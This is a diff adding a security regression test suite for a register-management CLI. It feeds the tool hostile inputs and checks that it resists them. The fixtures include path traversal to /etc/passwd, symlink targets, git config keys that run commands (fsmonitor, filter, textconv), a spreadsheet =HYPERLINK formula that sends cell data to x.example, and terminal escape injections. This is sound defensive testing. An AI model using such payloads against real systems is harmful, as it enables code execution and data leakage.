@@ -1,0 +1,406 @@
+"""Regression tests of issue #19: one test per class of attack (docs/security.md names each)."""
+
+from __future__ import annotations
+
+import os
+import re
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+import yaml
+from typer.testing import CliRunner
+
+from lfk.model.vocab import GRADE_COLORS
+from lfk.register import Register
+from tests.conftest import BASE, REPO, invoke
+
+RISKS = "units/county-amr/risks.yaml"
+needs_dot = pytest.mark.skipif(shutil.which("dot") is None, reason="graphviz is not installed")
+
+
+def load(p: Path) -> dict:
+    return yaml.safe_load(p.read_text(encoding="utf-8"))
+
+
+def dump(p: Path, data: object) -> None:
+    p.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
+
+
+# -- item 2 / #14: one disclosure policy, one DOT builder --------------------------------------------------
+def internal_power_names(root: Path) -> list[str]:
+    names = []
+    for f in sorted(root.glob("units/*/authorities.yaml")):
+        for a in load(f).get("authorities") or []:
+            if a.get("internal") or a.get("disclosure") == "internal":
+                names.append(a["name"])
+    return names
+
+
+def test_render_public_on_the_demo_draws_no_internal_power(runner: CliRunner, demo_register: Path,
+                                                          tmp_path: Path) -> None:
+    names = internal_power_names(demo_register)
+    assert len(names) >= 10
+    out = tmp_path / "pub"
+    r = invoke(runner, "render", "--root", str(demo_register), "--public", "--format", "dot", "--out", str(out))
+    assert r.exit_code == 0, r.output
+    blob = "\n".join(p.read_text(encoding="utf-8") for p in out.rglob("*.dot"))
+    assert blob
+    for name in names:
+        assert name not in blob, name
+    full = tmp_path / "all"
+    assert invoke(runner, "render", "--root", str(demo_register), "--format", "dot", "--out", str(full)).exit_code == 0
+    assert len(list(full.rglob("*.dot"))) > len(list(out.rglob("*.dot")))
+
+
+def test_a_flow_used_only_by_internal_powers_is_never_drawn_for_the_public(runner: CliRunner, base_register: Path,
+                                                                           tmp_path: Path) -> None:
+    root = base_register
+    flow = {"id": "F-secret", "name": "QXFLOWNAME", "steps": [
+        {"id": "S1", "name": "QXSTEPNAME", "conditions": "QXCONDITION", "next": [{"to": "S2", "when": "QXWHEN"}]},
+        {"id": "S2", "name": "决定", "end": True}]}
+    dump(root / "units/county-amr/flows/F-secret.yaml", flow)
+    auths = load(root / "units/county-amr/authorities.yaml")
+    auths["authorities"].append({"id": "NB-QX", "name": "QXPOWER", "category": "财务管理", "internal": True,
+                                 "flow": "F-secret"})
+    dump(root / "units/county-amr/authorities.yaml", auths)
+    out = tmp_path / "pub"
+    r = invoke(runner, "render", "--root", str(root), "--public", "--format", "dot", "--out", str(out))
+    assert r.exit_code == 0, r.output
+    blob = "\n".join(p.read_text(encoding="utf-8") for p in out.rglob("*.dot"))
+    for marker in ("QXFLOWNAME", "QXSTEPNAME", "QXCONDITION", "QXWHEN", "QXPOWER"):
+        assert marker not in blob, marker
+    r = invoke(runner, "render", "--root", str(root), "--format", "dot", "--out", str(tmp_path / "int"))
+    assert "QXSTEPNAME" in "\n".join(p.read_text(encoding="utf-8") for p in (tmp_path / "int").rglob("*.dot"))
+
+
+@needs_dot
+def test_a_step_named_with_dot_escapes_is_shown_literally_on_the_public_site(base_register: Path,
+                                                                             tmp_path: Path) -> None:
+    from lfk.site import build_site
+
+    p = base_register / "units/county-amr/flows/F-penalty.yaml"
+    data = load(p)
+    data["steps"][0]["name"] = "受理 \\G \\N \\L"
+    dump(p, data)
+    out = tmp_path / "pub"
+    build_site(Register(base_register), out, "public", lint=False)
+    pages = [f.read_text(encoding="utf-8") for f in out.rglob("*.html")]
+    svgs = [t.split("<svg", 1)[1] for t in pages if "<svg" in t and "受理 " in t]
+    assert svgs and any("受理 \\G \\N \\L" in s for s in svgs)
+    assert not any("受理 county" in s or "F-penalty n0" in s for s in svgs)
+
+
+def test_the_site_draws_through_lfk_render_only() -> None:
+    text = (REPO / "src/lfk/site/flowchart.py").read_text(encoding="utf-8")
+    assert "digraph" not in text and "subprocess" not in text and "#" not in re.sub(r"#[^\n]*\n", "", text)
+
+
+def test_one_grade_palette() -> None:
+    from lfk.render import GRADE_COLORS as RENDER
+
+    assert RENDER is GRADE_COLORS
+    css = (REPO / "templates/site/site.css").read_text(encoding="utf-8")
+    for var, g in (("high", "高"), ("mid", "中"), ("low", "低")):
+        assert f"--{var}: {GRADE_COLORS[g]};" in css, var
+
+
+# -- item 3: writing commands write only register files of a known kind under the root --------------------
+OUTSIDE = "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\n"
+
+
+def hostile_targets(root: Path, tmp: Path) -> list[str]:
+    """Paths a writing command must refuse: outside, ``..``, unknown kind, links, not a regular file."""
+    (tmp / "passwd").write_text(OUTSIDE, encoding="utf-8")
+    (root / "units/county-amr/notes.yaml").write_text("a:   1\n", encoding="utf-8")
+    (root / "units/county-amr/flows/F-link.yaml").symlink_to(tmp / "passwd")
+    (root / "units/county-amr/flows/F-inner.yaml").symlink_to(root / "units/county-amr/flows/F-penalty.yaml")
+    os.mkfifo(root / "units/county-amr/flows/F-fifo.yaml")
+    return [str(tmp / "passwd"), "units/county-amr/../../../passwd", str(root / "units/county-amr/notes.yaml"),
+            "units/county-amr/flows/F-link.yaml", "units/county-amr/flows/F-inner.yaml",
+            "units/county-amr/flows/F-fifo.yaml", str(tmp)]
+
+
+def test_fmt_refuses_every_file_that_is_not_a_register_file_under_the_root(runner: CliRunner,
+                                                                          base_register: Path,
+                                                                          tmp_path: Path) -> None:
+    out = tmp_path / "out"
+    out.mkdir()
+    for target in hostile_targets(base_register, out):
+        before = {p: p.read_bytes() for p in out.rglob("*") if p.is_file()}
+        r = invoke(runner, "fmt", "--root", str(base_register), target)
+        assert r.exit_code == 2, (target, r.output)
+        assert "reformatted" not in r.output and "已格式化" not in r.output
+        assert {p: p.read_bytes() for p in out.rglob("*") if p.is_file()} == before
+        assert (out / "passwd").read_text(encoding="utf-8") == OUTSIDE
+    assert (base_register / "units/county-amr/flows/F-link.yaml").is_symlink()
+
+
+def test_grade_write_never_writes_through_a_link(runner: CliRunner, base_register: Path, tmp_path: Path) -> None:
+    from tests.test_cli_grade import drift
+
+    drift(base_register)
+    real = tmp_path / "elsewhere.yaml"
+    shutil.move(base_register / RISKS, real)
+    (base_register / RISKS).symlink_to(real)
+    before = real.read_bytes()
+    r = invoke(runner, "grade", "--root", str(base_register), "--write")
+    assert r.exit_code in (0, 1, 2) and real.read_bytes() == before  # outside: not even read
+    inner = base_register / "units/county-amr/risks-real.yaml"
+    (base_register / RISKS).unlink()
+    shutil.move(real, inner)
+    (base_register / RISKS).symlink_to(inner)
+    r = invoke(runner, "grade", "--root", str(base_register), "--write")
+    assert r.exit_code == 2 and "link" in r.output
+    assert (base_register / RISKS).is_symlink() and inner.read_bytes() == before
+
+
+def test_register_target_is_the_one_check() -> None:
+    from lfk.core.errors import UsageError
+    from lfk.loader.guard import register_target
+
+    for bad in ("/etc/passwd", "units/x/../../../etc/passwd", "units/U/notes.yaml", ".lfk-cache/x.yaml",
+                "units/U/benchmarks/../../../../X.yaml", "README.md"):
+        with pytest.raises(UsageError):
+            register_target(BASE, bad)
+    assert register_target(BASE, RISKS)[1] == RISKS
+    assert register_target(BASE, "units/new-unit/benchmarks/XK-1.yaml")[1] == "units/new-unit/benchmarks/XK-1.yaml"
+
+
+# -- item 4: concurrent writers lose no edit; edits are addressed by id ---------------------------------
+def test_grade_write_addresses_risks_by_id_when_the_file_moved_on(base_register: Path) -> None:
+    from lfk.grading.report import grade_register, write_grades
+    from tests.test_cli_grade import drift
+
+    drift(base_register)
+    reg = Register(base_register)
+    report = grade_register(reg)
+    p = base_register / RISKS
+    # another writer inserts two risks at the top after lfk read the file
+    text = p.read_text(encoding="utf-8")
+    extra = ("  - id: R-100\n    title: 新增一\n    category: 权力行使\n    kind: 运行程序不规范\n    grade: 低\n"
+             "  - id: R-101\n    title: 新增二\n    category: 权力行使\n    kind: 运行程序不规范\n    grade: 低\n")
+    p.write_text(text.replace("risks:\n", "risks:\n" + extra, 1), encoding="utf-8")
+    changes = write_grades(reg, report)
+    assert {c.risk for c in changes} == {"R-003", "R-005"}
+    risks = {r["id"]: r for r in load(p)["risks"]}
+    assert risks["R-003"]["grade"] == "中" and risks["R-005"]["grade"] == "低"
+    assert risks["R-100"]["grade"] == "低" and risks["R-101"]["grade"] == "低" and risks["R-001"]["grade"] == "高"
+
+
+def test_an_edit_of_a_risk_changed_since_it_was_read_is_refused(base_register: Path) -> None:
+    from lfk.core.errors import WriteError
+    from lfk.grading.report import grade_register, write_grades
+    from tests.test_cli_grade import drift
+
+    drift(base_register)
+    reg = Register(base_register)
+    report = grade_register(reg)
+    p = base_register / RISKS
+    data = load(p)
+    data["risks"][2]["factors"] = {k: 1 for k in data["risks"][2].get("factors", {})} or {"importance": 1}
+    dump(p, data)
+    before = p.read_bytes()
+    with pytest.raises(WriteError):
+        write_grades(reg, report)
+    assert p.read_bytes() == before
+
+
+WRITER = """
+import sys
+from lfk.cli.main import app
+sys.argv = ["lfk", *sys.argv[1:]]
+try:
+    app()
+except SystemExit as e:
+    sys.exit(e.code)
+"""
+
+
+def test_two_writers_in_parallel_processes_lose_no_edit(tmp_path: Path) -> None:
+    from tests.test_cli_grade import drift
+
+    script = tmp_path / "w.py"
+    script.write_text(WRITER, encoding="utf-8")
+    env = {**os.environ, "LFK_CACHE_DIR": str(tmp_path / "cache")}
+    for rnd in range(6):
+        root = tmp_path / f"r{rnd}"
+        shutil.copytree(BASE, root)
+        for q in [root, *root.rglob("*")]:
+            q.chmod(q.stat().st_mode | 0o200)
+        drift(root)
+        cmds = [[sys.executable, str(script), "grade", "--root", str(root), "--write"],
+                [sys.executable, str(script), "approve", "AP-2026-03", "--root", str(root)]]
+        if rnd % 2:
+            cmds.reverse()
+        procs = [subprocess.Popen(c, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE) for c in cmds]
+        codes = {}
+        for c, pr in zip(cmds, procs, strict=True):
+            out, err = pr.communicate(timeout=300)
+            codes[c[2]] = pr.returncode
+            assert pr.returncode in (0, 2), (c[2], out, err)
+            if pr.returncode == 2:
+                assert b"changed since" in err + out, err
+        risks = {r["id"]: r for r in load(root / RISKS)["risks"]}
+        if codes["grade"] == 0:
+            assert risks["R-003"]["grade"] == "中" and risks["R-005"]["grade"] == "低", rnd
+        if codes["approve"] == 0:
+            assert all(r.get("approval") == "AP-2026-03" and r.get("approved_digest") for r in risks.values()), rnd
+        assert 0 in codes.values()
+
+
+# -- item 14: git runs no program a repository names ------------------------------------------------------
+def git(root: Path, *args: str) -> None:
+    subprocess.run(["git", *args], cwd=root, check=True, capture_output=True,
+                   env={**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.org",
+                        "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.org"})
+
+
+def test_hostile_git_config_runs_nothing(runner: CliRunner, base_register: Path, tmp_path: Path) -> None:
+    root = base_register
+    git(root, "init", "-q")
+    git(root, "add", "-A")
+    git(root, "commit", "-qm", "one")
+    marks = [tmp_path / "fsmonitor-ran", tmp_path / "filter-ran", tmp_path / "textconv-ran", tmp_path / "hook-ran"]
+    git(root, "config", "core.fsmonitor", f"touch {marks[0]}; false")
+    git(root, "config", "filter.evil.clean", f"touch {marks[1]}; cat")
+    git(root, "config", "diff.evil.textconv", f"touch {marks[2]}; cat")
+    git(root, "config", "diff.external", f"touch {marks[3]}")
+    (root / ".gitattributes").write_text("* filter=evil diff=evil\n", encoding="utf-8")
+    p = root / RISKS
+    p.write_text(p.read_text(encoding="utf-8").replace("title: ", "title: 改", 1), encoding="utf-8")
+    new_unit = root / "units/county-new"
+    new_unit.mkdir()
+    (new_unit / "unit.yaml").write_text("id: county-new\nname: 新单位\ntype: 行政机关\n", encoding="utf-8")
+    (root / ".gitignore").write_text("units/county-new/\n", encoding="utf-8")
+    r = invoke(runner, "diff", "HEAD", "--root", str(root), "--format", "json")
+    assert r.exit_code in (0, 1), r.output
+    assert "county-amr" in r.stdout
+    r = invoke(runner, "lint", "--root", str(root), "--changed-since", "HEAD", "--format", "json")
+    assert r.exit_code in (0, 1), r.output
+    for m in marks:
+        assert not m.exists(), m.name
+    from lfk.lint.changed import changed_files
+
+    changed = changed_files(root, "HEAD")
+    assert RISKS in changed and "units/county-new/unit.yaml" in changed  # a git-ignored new unit too
+
+
+# -- items 8-10: no live formula, no Markdown structure, no control character in output ------------------
+ESC = "\x1b]0;pwned\x07\x1b[2K"
+
+
+def set_title(root: Path, title: str) -> None:
+    p = root / RISKS
+    data = load(p)
+    data["risks"][0]["title"] = title
+    dump(p, data)
+
+
+@pytest.mark.parametrize("fmt", ["text", "github", "junit", "sarif", "json"])
+def test_control_characters_never_reach_lint_output(runner: CliRunner, base_register: Path, fmt: str) -> None:
+    import xml.etree.ElementTree as ET
+
+    p = base_register / RISKS
+    data = load(p)
+    data["risks"][0][f"bad{ESC}key"] = 1  # LFK102 names the key
+    dump(p, data)
+    r = invoke(runner, "lint", "--root", str(base_register), "--format", fmt)
+    assert r.exit_code == 1, r.output
+    assert "LFK102" in r.stdout
+    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f]", r.stdout), repr(r.stdout[:300])
+    if fmt == "junit":
+        ET.fromstring(r.stdout.encode("utf-8"))
+
+
+def test_grade_csv_cells_are_never_formulas(runner: CliRunner, base_register: Path) -> None:
+    import csv
+    import io
+
+    set_title(base_register, '=HYPERLINK("http://x.example/?"&A1,"ok")')
+    r = invoke(runner, "grade", "--root", str(base_register), "--format", "csv")
+    rows = list(csv.reader(io.StringIO(r.stdout)))
+    cells = [c for row in rows[1:] for c in row]
+    assert any(c.startswith("'=HYPERLINK") for c in cells)
+    assert not any(c and c[0] in "=+@" for c in cells)
+
+
+def test_csv_cell_and_row() -> None:
+    from lfk.core.safe import csv_cell, csv_row
+
+    for bad in ("=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "＝1"):
+        assert csv_cell(bad).startswith("'"), bad
+    assert csv_cell(-3) == -3 and csv_cell("R-001") == "R-001"
+    assert csv_row(["=x", ESC, 5]) == ["'=x", "\\x1b]0;pwned\\x07\\x1b[2K", 5]
+
+
+def test_diff_markdown_takes_no_structure_or_mentions_from_data(runner: CliRunner, base_register: Path) -> None:
+    root = base_register
+    git(root, "init", "-q")
+    git(root, "add", "-A")
+    git(root, "commit", "-qm", "one")
+    set_title(root, "新标题\r- [x] injected item\r---\r```\r@octocat please" + ESC)
+    r = invoke(runner, "diff", "HEAD", "--root", str(root), "--format", "markdown")
+    assert r.exit_code in (0, 1), r.output
+    lines = r.stdout.splitlines()
+    assert not any(ln.startswith(("- [x]", "---", "```")) for ln in lines)
+    assert "@octocat" not in r.stdout and "\r" not in r.stdout and "\x1b" not in r.stdout
+    assert "injected item" in r.stdout
+    t = invoke(runner, "diff", "HEAD", "--root", str(root), "--format", "text")
+    assert "\x1b" not in t.stdout and "\r" not in t.stdout
+
+
+def test_printable() -> None:
+    from lfk.core.safe import printable
+
+    assert printable("a\x1b[2Kb\u202ec") == "a\\x1b[2Kb\\u202ec"
+    assert printable("a\nb\rc") == "a b c" and printable("a\nb", newlines=True) == "a\nb"
+    assert printable("受理 \\G") == "受理 \\G"
+
+
+# -- item 5: a repeated disclosure key stops a public build ------------------------------------------------
+@pytest.mark.parametrize("key", ["internal: true\n    internal: false", "disclosure: internal\n    disclosure: public"])
+def test_a_repeated_disclosure_key_stops_a_public_build(runner: CliRunner, base_register: Path, tmp_path: Path,
+                                                        key: str) -> None:
+    p = base_register / "units/county-amr/authorities.yaml"
+    text = p.read_text(encoding="utf-8")
+    first = re.search(r"\n(  - id: [^\n]+\n)", text)
+    assert first
+    text = text.replace(first.group(1), first.group(1) + f"    {key}\n", 1)
+    p.write_text(text, encoding="utf-8")
+    r = invoke(runner, "site", str(tmp_path / "pub"), "--root", str(base_register), "--audience", "public")
+    assert r.exit_code == 1, r.output
+    assert "LFK002" in r.output and not (tmp_path / "pub" / "index.html").exists()
+
+
+# -- item 11 and the minor items: one line and exit 2, never a traceback -------------------------------
+def test_bad_options_and_values_are_one_line_exit_2(runner: CliRunner, base_register: Path, tmp_path: Path) -> None:
+    r = invoke(runner, "new", "unit", "xy\n", "--root", str(base_register))
+    assert r.exit_code == 2 and not (base_register / "units" / "xy\n").exists()
+    r = invoke(runner, "lint", "--root", str(base_register), "--jobs", "100000")
+    assert r.exit_code == 2
+    folder = tmp_path / "afolder"
+    folder.mkdir()
+    r = invoke(runner, "lint", "--root", str(base_register), "--output", str(folder))
+    assert r.exit_code == 2 and "Traceback" not in r.output
+
+
+@pytest.mark.parametrize("text", ["review:\n  cycle_days: 99999999999999999999\n", "lint:\n  max_file_mb: .inf\n"])
+def test_unbounded_config_values_are_findings(runner: CliRunner, base_register: Path, text: str) -> None:
+    p = base_register / "lfk.yaml"
+    data = load(p)
+    data.pop(text.split(":")[0], None)
+    p.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False) + text, encoding="utf-8")
+    r = invoke(runner, "lint", "--root", str(base_register))
+    assert r.exit_code == 1 and "LFK101" in r.stdout, r.output
+    for cmd in (["grade"], ["render", "--format", "dot", "--out", str(base_register.parent / "o")]):
+        r = invoke(runner, *cmd, "--root", str(base_register))
+        assert r.exit_code == 2 and len(r.output.strip().splitlines()) == 1, r.output
+
+
+def test_ids_with_a_trailing_newline_are_not_valid() -> None:
+    from lfk.lint.rules._util import valid_id
+
+    assert valid_id("R-001") and not valid_id("R-001\n") and not valid_id("../x")
